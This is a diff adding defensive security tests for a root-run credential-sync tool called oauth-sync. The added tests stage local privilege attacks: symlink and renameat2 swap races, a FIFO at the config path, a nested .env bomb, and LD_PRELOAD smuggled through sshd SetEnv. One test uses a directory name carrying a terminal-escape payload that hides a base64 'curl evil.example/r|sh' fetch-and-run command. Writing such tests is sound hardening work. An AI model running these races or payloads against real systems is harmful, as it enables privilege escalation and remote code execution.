@@ -6,7 +6,7 @@
  */
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { spawn, spawnSync } from "node:child_process";
-import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmdirSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { appendFileSync, chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmdirSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { credentialsJson, fakeToken } from "../../src/demo/sandbox.ts";
 import { fingerprint } from "../../src/log/redact.ts";
@@ -32,8 +32,8 @@ function asMallory(script: string) {
 }
 
 /** The compiled binary, run as root from a copy every user can execute (the clone may live under a 0700 dir). */
-async function oauthSync(args: string[], timeoutMs = 30_000) {
-  const child = spawn(bin, args, { env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root" } });
+async function oauthSync(args: string[], timeoutMs = 30_000, env: Record<string, string> = {}) {
+  const child = spawn(bin, args, { env: { PATH: `${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: "/root", ...env } });
   let output = "";
   child.stdout.on("data", (c) => (output += c));
   child.stderr.on("data", (c) => (output += c));
@@ -94,6 +94,8 @@ beforeAll(() => {
   bin = join(base, "bin/oauth-sync");
   copyFileSync(requireBinary(), bin);
   chmodSync(bin, 0o755);
+  copyFileSync(process.execPath, join(base, "bin/bun")); // for the attacker's own renameat2 (bun:ffi)
+  chmodSync(join(base, "bin/bun"), 0o755);
   for (const dir of ["mallory", "mallory/home", "mallory/home/.claude", "mallory/home/.openclaw", "mallory-home"]) {
     mkdirSync(join(base, dir), { mode: 0o755 });
     chownSync(join(base, dir), uid, gid);
@@ -896,7 +898,8 @@ describe("attacks with text, in the journal (a booted systemd, the installed ser
       0o600,
     );
     const installed = await box.exec(["/root/oauth-sync", "install", "--config", "/root/config.json", "--yes", "--no-test"]);
-    if (![0, 1].includes(installed.code)) throw new Error(`install: exit ${installed.code}\n${installed.stdout}${installed.stderr}`);
+    // 9: installed, but not healthy (the hostile target fails, as it must).
+    if (![0, 9].includes(installed.code)) throw new Error(`install: exit ${installed.code}\n${installed.stdout}${installed.stderr}`);
     const journal = () => box!.exec(["journalctl", "_SYSTEMD_UNIT=oauth-sync.service", "-o", "json", "--no-pager"]);
     const deadline = Date.now() + 40_000;
     while (!(await journal()).stdout.includes("gateway reload failed") && Date.now() < deadline) await Bun.sleep(250);
@@ -1132,4 +1135,208 @@ describe("the honest path", () => {
     expect(existsSync(rootLeftover)).toBe(false);
     expect(existsSync(foreign)).toBe(true);
   });
+});
+
+describe("attacks on install and uninstall (issue 18.6)", () => {
+  const roothome = () => join(base, "roothome");
+  /** The binary as root with its own HOME under the test's base: a --user layout there never touches the host's. */
+  const asRootAt = (args: string[], extra: Record<string, string> = {}, timeoutMs = 60_000) =>
+    oauthSync(args, timeoutMs, { PATH: `${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin`, HOME: roothome(), ...extra });
+  /** A prepared config of root's (its targets in root's places). */
+  function prepared(name: string, extra: Record<string, unknown> = {}): string {
+    return writeConfig(name, { credentials: rootCredentials(), targets: [{ kind: "env-file", path: join(base, "root/targets", `${name}.env`) }], trigger: { mode: "none" }, ...extra });
+  }
+  const modeOf = (path: string) => statSync(path).mode & 0o7777;
+
+  beforeAll(() => {
+    mkdirSync(roothome(), { mode: 0o700 });
+    // A systemctl that answers for nothing: install and uninstall here never reach the host's managers.
+    mkdirSync(join(base, "fakes"), { mode: 0o755 });
+    writeFileSync(join(base, "fakes/systemctl"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    writeFileSync(join(base, "fakes/systemd-analyze"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
+    writeFileSync(join(base, "fakes/loginctl"), "#!/bin/sh\necho yes\n", { mode: 0o755 });
+  });
+
+  attack("the temp file swapped for a link while install copies the binary into a user's bin dir: a root-only file keeps its mode", async () => {
+    const secret = join(base, "root/push.key");
+    writeFileSync(secret, "root-only key\n", { mode: 0o600 });
+    const binDir = join(base, "mallory/bin");
+    asMallory(`mkdir -p ${binDir} ${base}/mallory/rcfg`);
+    const swaps = join(base, "log/swaps");
+    // As mallory: every temp file that appears in the bin dir is replaced by a link to root's key, as fast as possible.
+    const swapper = spawn("sh", ["-c", `while :; do for f in ${binDir}/.oauth-sync.*.tmp; do [ -e "$f" ] || continue; rm -f "$f" && ln -s ${secret} "$f" && echo x >> ${swaps}; done; done`], { uid, gid, stdio: "ignore" });
+    try {
+      const config = writeConfig("receiver-bin", { source: "push", stateDir: join(base, "mallory/rstate"), targets: [{ kind: "env-file", path: join(base, "mallory/rcv.env") }] });
+      for (let i = 0; i < 3; i++) {
+        rmSync(join(binDir, "oauth-sync"), { force: true });
+        await asRootAt(["install", "--receiver", "--login", MALLORY, "--bin-dir", binDir, "--config-path", join(base, "mallory/rcfg/config.json"), "--config", config, "--yes"]);
+        expect(modeOf(secret)).toBe(0o600);
+        expect(statSync(secret).uid).toBe(0);
+        expect(readFileSync(secret, "utf8")).toBe("root-only key\n");
+      }
+    } finally {
+      swapper.kill("SIGKILL");
+    }
+    expect(existsSync(swaps)).toBe(true); // the swap was really played
+  }, 120_000);
+
+  attack("uninstall --purge of a state dir whose parent a user swapped for a link: root's tree of the same name survives", async () => {
+    mkdirSync(join(base, "root/st/data"), { recursive: true, mode: 0o700 });
+    writeFileSync(join(base, "root/st/data/keep.txt"), "root's\n", { mode: 0o600 });
+    // What an earlier release's manifest could say: a state dir it accepted inside a user's directory.
+    const state = join(base, "mallory/st/data");
+    asMallory(`mkdir -p ${state}`);
+    const manifestDir = join(roothome(), ".local/state/oauth-sync");
+    mkdirSync(manifestDir, { recursive: true, mode: 0o700 });
+    writeFileSync(join(manifestDir, "install.json"), JSON.stringify({ version: "0.1.0", binary: join(roothome(), ".local/bin/oauth-sync"), configPath: join(roothome(), ".config/oauth-sync/config.json"), stateDir: state, units: [], user: true }));
+    asMallory(`rm -rf ${base}/mallory/st && ln -s ${base}/root/st ${base}/mallory/st`);
+    const result = await asRootAt(["uninstall", "--user", "--purge"]);
+    expect(readFileSync(join(base, "root/st/data/keep.txt"), "utf8")).toBe("root's\n");
+    expect(result.code).toBe(8);
+    expect(result.output).toContain("symbolic link");
+  });
+
+  attack("a FIFO at the config path does not hang install --dry-run", async () => {
+    const fifo = join(base, "root/fifocfg/config.json");
+    mkdirSync(join(base, "root/fifocfg"), { mode: 0o700 });
+    spawnSync("mkfifo", [fifo]);
+    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--config", prepared("fifo"), "--config-path", fifo], {}, 20_000);
+    expect(result.code).toBe(8); // not killed by the timeout
+    expect(result.output).toContain("FIFO");
+  });
+
+  attack("a nested-default bomb in a user's compose .env is refused in bounded time (no docker compose here)", async () => {
+    mkdirSync(join(base, "nocompose"), { mode: 0o755 });
+    writeFileSync(join(base, "nocompose/docker"), "#!/bin/sh\necho \"docker: 'compose' is not a docker command.\" >&2\nexit 1\n", { mode: 0o755 });
+    const project = join(base, "mallory/proj");
+    asMallory(`mkdir -p ${project}/state`);
+    writeFileSync(join(project, "docker-compose.yml"), "services:\n  openclaw-gateway:\n    image: ghcr.io/openclaw/openclaw:2026.5.28\n    volumes:\n      - ${OPENCLAW_CONFIG_DIR}:/home/node/.openclaw\n");
+    for (const kb of [300, 1200]) {
+      const levels = Math.floor((kb * 1000) / 7);
+      writeFileSync(join(project, ".env"), `OPENCLAW_CONFIG_DIR=${"${X:-".repeat(levels)}${project}/state${"}".repeat(levels)}\n`);
+      spawnSync("chown", ["-R", `${uid}:${gid}`, project]);
+      const started = performance.now();
+      const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--project-dir", project], { PATH: `${base}/nocompose:${base}/fakes:${base}/bin:/usr/local/bin:/usr/bin:/bin` }, 25_000);
+      console.log(`.env of ${kb} KB with nested defaults: install --dry-run ended in ${((performance.now() - started) / 1000).toFixed(2)} s (exit ${result.code})`);
+      expect(result.code).toBe(2);
+      expect(result.output).toMatch(/\.env: \$\{…\} nested deeper than 32 levels \(.*\): refused/);
+    }
+  }, 120_000);
+
+  attack("SetEnv LD_PRELOAD and OAUTH_SYNC_CONFIG through a real sshd that accepts them: install --receiver warns, receive starts clean", async () => {
+    const { createBed } = await import("../support/ssh-bed.ts");
+    const bed = await createBed({ one: true });
+    try {
+      const r = bed.receivers[0]!; // root's receiver, PermitRootLogin forced-commands-only
+      appendFileSync(join(r.dir, "sshd_config"), "AcceptEnv LANG LC_* LD_PRELOAD LD_DEBUG OAUTH_SYNC_CONFIG\n");
+      const key = join(bed.root, "holder_ed25519");
+      spawnSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", key]);
+      const prepared = join(bed.root, "prepared.json");
+      writeFileSync(prepared, r.configText, { mode: 0o600 });
+      const args = ["install", "--receiver", "--config", prepared, "--config-path", r.configPath, "--bin-dir", bed.bin, "--login", "root", "--authorized-key", readFileSync(`${key}.pub`, "utf8").trim(), "--authorized-keys-file", r.authorizedKeys, "--yes"];
+      // sshd -T reads /etc/ssh/sshd_config: in a mount namespace of its own that file is this receiver's, the host's stays as it is.
+      const quoted = args.map((a) => `'${a}'`).join(" ");
+      const install = spawnSync("unshare", ["-m", "sh", "-c", `mount --bind ${r.dir}/sshd_config /etc/ssh/sshd_config && exec ${bin} ${quoted}`], { encoding: "utf8", env: { PATH: `${base}/fakes:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin`, HOME: "/root" } });
+      expect(install.status, install.stdout + install.stderr).toBe(0);
+      expect(install.stderr).toContain("sshd accepts the variable(s) LD_PRELOAD, LD_DEBUG, OAUTH_SYNC_CONFIG from clients (AcceptEnv)");
+      expect(readFileSync(r.authorizedKeys, "utf8")).toContain(`command="/usr/bin/env -i PATH=`);
+      await r.start();
+      // The key holder sends a library to preload, another config, and LD_DEBUG=files: ld.so then names every program it
+      // starts with these variables (the login's shell and whatever its rc files run, env), and must never name oauth-sync.
+      const ssh = spawnSync(
+        "ssh",
+        ["-F", "none", "-i", key, "-p", String(r.port), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "SetEnv=LD_PRELOAD=/nonexistent/oauth-sync-evil.so LD_DEBUG=files OAUTH_SYNC_CONFIG=/nonexistent/evil.json", "-T", `root@${r.address}`, "anything"],
+        { input: `${JSON.stringify({ v: 1, kind: "probe" })}\n`, encoding: "utf8", timeout: 30_000 },
+      );
+      expect(ssh.stdout).toContain('"status":"probe"'); // receive read its own, named config
+      expect(ssh.stderr).toContain("needed by /usr/bin/env"); // the variables did reach the forced command's shell
+      expect(ssh.stderr).toContain("LD_PRELOAD cannot be preloaded");
+      expect(ssh.stderr).not.toContain(join(bed.bin, "oauth-sync")); // receive itself started from a clean environment
+    } finally {
+      await bed.cleanup();
+    }
+  }, 120_000);
+
+  attack("300 agent directories and names with ESC and a newline in a user's OpenClaw: odd names skipped and said so, 8 proposed, nothing fails", async () => {
+    const state = join(base, "mallory/oc/.openclaw");
+    asMallory(`mkdir -p ${state}/agents && cd ${state}/agents && for i in $(seq -w 1 300); do mkdir -p a$i/agent; done`);
+    writeFileSync(join(state, "openclaw.json"), JSON.stringify({ meta: { lastTouchedVersion: "2026.5.28" } }));
+    const odd = ["evil\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcnxzaA==\u0007", "two\nlines", "\u001b[2Kfake"];
+    for (const name of odd) mkdirSync(join(state, "agents", name));
+    spawnSync("chown", ["-R", `${uid}:${gid}`, join(base, "mallory/oc")]);
+    const result = await asRootAt(["install", "--user", "--dry-run", "--yes", "--no-test", "--trigger", "none", "--credentials", rootCredentials(), "--openclaw-dir", state]);
+    expect(result.code, result.output).toBe(0);
+    expect(result.output).not.toContain("\u001b");
+    expect(result.output).not.toContain("two\nlines");
+    expect(result.output).toContain("skipped agent name(s)");
+    expect(result.output).toContain("--max-agents 300");
+    const config = JSON.parse(result.output.slice(result.output.indexOf("config to install:\n") + 19, result.output.indexOf("\n}\n") + 2));
+    expect(config.targets).toHaveLength(8);
+  }, 60_000);
+});
+
+describe("attacks on a root install's places (a booted systemd: install gets past its pre-flight there)", () => {
+  let box: SystemdContainer | undefined;
+  const EVIL = "oauthsync-evil"; // made inside the container only
+  const inside = async (script: string) => {
+    const result = await box!.exec(["sh", "-c", script]);
+    if (result.code !== 0) throw new Error(`${script}: exit ${result.code}\n${result.stdout}${result.stderr}`);
+    return result.stdout.trim();
+  };
+  const put = (path: string, text: string, mode: number) => {
+    mkdirSync(join(box!.root, path, ".."), { recursive: true });
+    writeFileSync(join(box!.root, path), text, { mode });
+  };
+
+  beforeAll(async () => {
+    box = await bootSystemd("oauth-sync-attacks-places");
+    await box.copyIn(bin, "/root/oauth-sync");
+    await box.copyIn(process.execPath, "/usr/local/bin/bun-attacker"); // the attacker's own renameat2 (bun:ffi)
+    await inside(`useradd -m ${EVIL} && chmod 755 /home/${EVIL}`);
+    put("/etc/canary.conf", canaryText, 0o644);
+    put("/root/.claude/.credentials.json", credentialsJson(fakeToken(), Date.now() + 8 * HOUR), 0o600);
+    put("/root/prepared.json", JSON.stringify({ credentials: "/root/.claude/.credentials.json", trigger: { mode: "none" }, targets: [{ kind: "env-file", path: "/root/t/.env" }] }), 0o600);
+  }, 300_000);
+
+  afterAll(async () => {
+    await box?.stop();
+  });
+
+  attack("the config path swapped with a link to root's file (renameat2 RENAME_EXCHANGE) during install: refused before any chmod", async () => {
+    const dir = `/home/${EVIL}/cfgdir`;
+    await inside(`runuser -u ${EVIL} -- sh -c 'mkdir -p ${dir} && echo "{}" > ${dir}/config.json && chmod 644 ${dir}/config.json && ln -s /etc/canary.conf ${dir}/evil'`);
+    put(
+      `/home/${EVIL}/exchange.ts`,
+      `import { dlopen, FFIType } from "bun:ffi";
+const libc = dlopen("libc.so.6", { renameat2: { args: [FFIType.i32, FFIType.ptr, FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 } });
+const [a, b] = [Buffer.from("${dir}/config.json\\0"), Buffer.from("${dir}/evil\\0")];
+const end = Date.now() + 15_000;
+let n = 0;
+while (Date.now() < end) if (libc.symbols.renameat2(-100, a, -100, b, 2) === 0) n++;
+require("node:fs").writeFileSync("/tmp/exchanges", String(n));
+`,
+      0o644,
+    );
+    // As the user, in the background for 15 s: config.json and a link to root's canary change places all the time.
+    await inside(`runuser -u ${EVIL} -- sh -c 'cd /home/${EVIL} && nohup /usr/local/bin/bun-attacker exchange.ts >/dev/null 2>&1 &'`);
+    for (let i = 0; i < 5; i++) {
+      const result = await box!.exec(["/root/oauth-sync", "install", "--yes", "--no-test", "--config", "/root/prepared.json", "--config-path", `${dir}/config.json`]);
+      expect(result.code, result.stdout + result.stderr).toBe(8);
+      expect(result.stderr).toContain(`belongs to ${EVIL}`);
+      expect(await inside("stat -c '%a %U' /etc/canary.conf")).toBe("644 root");
+    }
+    for (let i = 0; i < 200 && (await box!.exec(["test", "-f", "/tmp/exchanges"])).code !== 0; i++) await Bun.sleep(100);
+    expect(Number(await inside("cat /tmp/exchanges"))).toBeGreaterThan(0); // the swap was really played
+    expect(readFileSync(join(box!.root, "etc/canary.conf"), "utf8")).toBe(canaryText);
+    expect(await inside("test -e /etc/systemd/system/oauth-sync.service || echo none")).toBe("none"); // nothing installed
+  }, 120_000);
+
+  attack("a bin dir the user owns, for units that run as root: refused before anything is made there", async () => {
+    await inside(`runuser -u ${EVIL} -- mkdir -p /home/${EVIL}/bin`);
+    const result = await box!.exec(["/root/oauth-sync", "install", "--yes", "--no-test", "--config", "/root/prepared.json", "--bin-dir", `/home/${EVIL}/bin`]);
+    expect(result.code, result.stdout + result.stderr).toBe(8);
+    expect(result.stderr).toContain(`--bin-dir /home/${EVIL}/bin belongs to ${EVIL}`);
+    expect(await inside(`ls -A /home/${EVIL}/bin`)).toBe("");
+    expect(await inside("test -e /etc/oauth-sync/config.json || echo none")).toBe("none");
+  }, 60_000);
 });
